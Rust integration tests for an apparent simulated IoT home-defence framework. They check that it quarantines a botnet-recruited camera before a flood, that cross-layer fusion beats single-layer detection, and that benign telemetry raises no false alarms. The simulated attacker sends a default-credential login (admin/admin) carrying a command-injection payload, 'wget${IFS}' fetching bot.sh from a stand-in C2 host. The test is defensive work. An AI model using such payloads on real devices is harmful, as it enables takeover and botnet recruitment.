//! Cross-crate integration tests exercised through the `xlf` facade:
//! the full home pipeline, the headline cross-layer result, and the
//! contracts the table/figure harnesses rely on.

use xlf::core::alerts::Severity;
use xlf::core::correlation::{CorrelationConfig, CorrelationEngine};
use xlf::core::evidence::Layer;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};

/// WAN attacker that recruits the camera and orders a flood.
struct BotnetAttacker {
    gateway: NodeId,
    victim: NodeId,
}

impl Node for BotnetAttacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
        ctx.set_timer(Duration::from_secs(200), 2);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        match tag {
            1 => {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
            2 => {
                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
                    .with_meta("device", "cam")
                    .with_meta("target", self.victim.raw().to_string())
                    .with_meta("count", "200");
                ctx.send(self.gateway, order);
            }
            _ => {}
        }
    }
}

struct FloodCounter {
    hits: u64,
}
impl Node for FloodCounter {
    fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
        if packet.kind == "ddos" {
            self.hits += 1;
        }
    }
}

fn botnet_home(config: XlfConfig) -> (XlfHome, NodeId) {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, config, &devices);
    let victim = home.net.add_node(Box::new(FloodCounter { hits: 0 }));
    home.net
        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
    let attacker = home.net.add_node(Box::new(BotnetAttacker {
        gateway: home.gateway,
        victim,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(420));
    (home, victim)
}

#[test]
fn undefended_home_falls_to_the_botnet() {
    let (home, victim) = botnet_home(XlfConfig::off());
    assert!(home.device_ref("cam").is_compromised());
    let hits = home.net.node_as::<FloodCounter>(victim).unwrap().hits;
    assert_eq!(hits, 200, "the whole flood reaches the victim");
}

#[test]
fn xlf_quarantines_the_bot_before_the_flood() {
    let (home, victim) = botnet_home(XlfConfig::full());
    assert!(home.gateway_ref().nac.is_quarantined("cam"));
    let hits = home.net.node_as::<FloodCounter>(victim).unwrap().hits;
    assert_eq!(hits, 0, "no flood packet escapes the home");
    assert!(home
        .core
        .borrow()
        .alerts
        .has_alert("cam", Severity::Critical));
}

#[test]
fn cross_layer_fusion_scores_higher_than_any_single_layer() {
    // The Figure 4 claim as a regression test (single seed).
    let (home, _victim) = botnet_home(XlfConfig::full());
    let core = home.core.borrow();
    let now = SimTime::from_secs(420);
    let fused = CorrelationEngine::new(CorrelationConfig::default())
        .evaluate_device(&core.store, "cam", now)
        .score;
    for layer in [Layer::Device, Layer::Network, Layer::Service] {
        let single = CorrelationEngine::new(CorrelationConfig {
            only_layer: Some(layer),
            ..Default::default()
        })
        .evaluate_device(&core.store, "cam", now)
        .score;
        assert!(
            fused >= single,
            "fusion ({fused}) must not lose to {layer:?}-only ({single})"
        );
    }
    assert!(fused > 0.6, "fused verdict must be act-level, got {fused}");
}

#[test]
fn simulation_is_deterministic_end_to_end() {
    let (home_a, _) = botnet_home(XlfConfig::full());
    let (home_b, _) = botnet_home(XlfConfig::full());
    assert_eq!(home_a.net.stats(), home_b.net.stats());
    assert_eq!(
        home_a.core.borrow().store.len(),
        home_b.core.borrow().store.len()
    );
    assert_eq!(
        home_a.core.borrow().alerts.alerts().len(),
        home_b.core.borrow().alerts.alerts().len()
    );
}

#[test]
fn benign_month_of_telemetry_raises_no_alarms() {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature)
            .with_telemetry_period(Duration::from_secs(60)),
        HomeDevice::new("meter", SensorKind::Power).with_telemetry_period(Duration::from_secs(60)),
    ];
    let mut home = XlfHome::build(3, XlfConfig::full(), &devices);
    // Three simulated days.
    home.net.run_until(SimTime::from_secs(3 * 24 * 3600));
    let core = home.core.borrow();
    assert!(
        core.alerts.at_least(Severity::Warning).is_empty(),
        "false alarms on benign telemetry: {:?}",
        core.alerts.alerts()
    );
}

#[test]
fn fifty_device_home_scales_and_stays_quiet() {
    // Scalability smoke: a large home under full XLF runs to completion
    // with zero false alarms and full telemetry flow.
    let kinds = [
        SensorKind::Temperature,
        SensorKind::Motion,
        SensorKind::Power,
        SensorKind::Smoke,
        SensorKind::Camera,
    ];
    let devices: Vec<HomeDevice> = (0..50)
        .map(|i| {
            HomeDevice::new(&format!("dev{i}"), kinds[i % kinds.len()])
                .with_telemetry_period(Duration::from_secs(20 + (i % 7) as u64))
        })
        .collect();
    let mut home = XlfHome::build(13, XlfConfig::full(), &devices);
    home.net.run_until(SimTime::from_secs(900));
    let core = home.core.borrow();
    assert!(
        core.alerts.at_least(Severity::Warning).is_empty(),
        "false alarms at scale: {:?}",
        core.alerts.alerts()
    );
    assert!(
        home.gateway_ref().forwarded > 1500,
        "telemetry must flow at scale: {}",
        home.gateway_ref().forwarded
    );
}
